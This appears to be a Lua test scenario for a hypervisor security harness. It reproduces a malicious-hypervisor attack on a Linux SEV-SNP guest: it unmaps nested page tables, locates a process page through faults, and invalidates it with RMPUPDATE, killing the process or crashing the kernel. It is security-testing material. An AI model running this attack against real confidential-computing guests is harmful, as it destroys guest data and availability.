-- SPDX-License-Identifier: GPL-2.0-or-later
--
-- A page of the guest's is taken away and given back under the same address. To hit the process
-- that runs, the hypervisor first takes everything out of the nested page table and sees what is
-- asked for: the first page where user space reads or writes.
--
--   prova run scenarios/linux/unvalidated-page.lua --kernel vmlinuz --initrd initrd.gz
--
-- Source: attack catalogue A06; Linux 6.12, exc_vmm_communication() in arch/x86/coco/sev/core.c;
--   the way to the page: controlled-channel attacks, as in Heckler and WeSee (2024).
-- Preconditions: an initramfs of tests/linux/initramfs.
-- Shows: RMPUPDATE leaves the page unvalidated, and the next access is #VC 0x404, which no code
--   of Linux answers with PVALIDATE: a page is validated when it changes its state, never
--   because it faults. The kernel looks at the instruction, finds none that could have caused
--   such an exit, and kills the process by SIGBUS (128 + 7). What was in the page is lost to the
--   process, and has become nobody's. Other pages end the kernel. One that it writes to when it
--   ends a process is #VC in the kernel: termination (reason 0:0). The page from which the process
--   fetches its instructions is read by the kernel to find out what it was, and again when it
--   prints registers and code: #VC in #VC to a double fault, and what is left waits for a lock of
--   its own console without end.
-- Schedule: any.
-- Recorded with Debian's 6.12.117 and 6.12.118, cloud and full.

scenario {
  title   = "Linux: a page of the process that runs is taken away",
  source  = "attack catalogue A06; Linux 6.12 exc_vmm_communication()",
  monitor = "default",
  guest   = "linux",
  append  = "prova.do=shell",
  starts  = "~ # ",
  expect  = {
    holds   = "all",
    ends    = "powered-off",
    fault   = { name = "vc-not-validated", vmpl = 2 },
    console = "EXIT-135",
  },
}

local RAM <const>, LARGE <const>, PAGE <const> = 256 << 20, 2 << 20, 4096
local FINAL_USER <const>, FETCH <const> = 1 << 32 | 1 << 2, 1 << 4
local FLUSH_ALL <const> = 1
-- A program without a stack that counts in its second page: 1: incq 0x401000; jmp 1b
local BASE <const> = 0x400000
local CODE <const> = "\x48\xff\x04\x25\x00\x10\x40\x00\xeb\xf6"
local ELF <const> = string.pack("<c16I2I2I4I8I8I8I4I2I2I2I2I2I2", "\x7fELF\2\1\1", 2, 62, 1,
                                BASE + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0) ..
                    string.pack("<I4I4I8I8I8I8I8I8", 1, 7, 0, BASE, BASE, 120 + #CODE, 8192,
                                4096) .. CODE
local HEX <const> = ELF:gsub(".", function (c) return ("%02x"):format(c:byte()) end)
local RUN <const> = "echo " .. HEX .. " | xxd -r -p >/tmp/loop; chmod +x /tmp/loop; " ..
                    "echo GOING; /tmp/loop; echo EXIT-$?; exit\n"
local hidden, taken
local ticks = 0

local function owned(map) return map and hv.rmpread(map.spa).assigned end

local function hide(vmsa)
  for base = 0, RAM - LARGE, LARGE do
    local map = hv.npt_lookup(base)
    if map and map.size == "2m" then
      if owned(map) then hv.npt_unmap(base, "2m") end
    else
      for gpa = base, base + LARGE - PAGE, PAGE do
        if owned(hv.npt_lookup(gpa)) then hv.npt_unmap(gpa) end
      end
    end
  end
  hv.vmcb(vmsa).tlb_control = FLUSH_ALL
end

local function take(gpa)
  local map = hv.npt_lookup(gpa)
  local spa = map.spa + gpa - map.gpa
  if map.size == "2m" then
    assert(hv.psmash(map.spa) == "SUCCESS")
    hv.npt_map(gpa, spa)
  end
  assert(hv.rmpupdate { spa = spa } == "SUCCESS")
  assert(hv.rmpupdate { spa = spa, gpa = gpa, assigned = true } == "SUCCESS")
end

hv.type(RUN)

function hypervisor(vcpu)
  while true do
    local exit = vcpu:run()
    hv.honest(exit)
    if not hidden and exit.kind == "intr" and hv.printed("\nGOING") then
      ticks = ticks + 1
      hidden = ticks == 20
      if hidden then hide(exit.vmsa) end
    elseif hidden and not taken and exit.kind == "npf" and
           exit.info1 & (FINAL_USER | FETCH) == FINAL_USER then
      taken = exit.gpa // PAGE * PAGE
      take(taken)
    end
  end
end
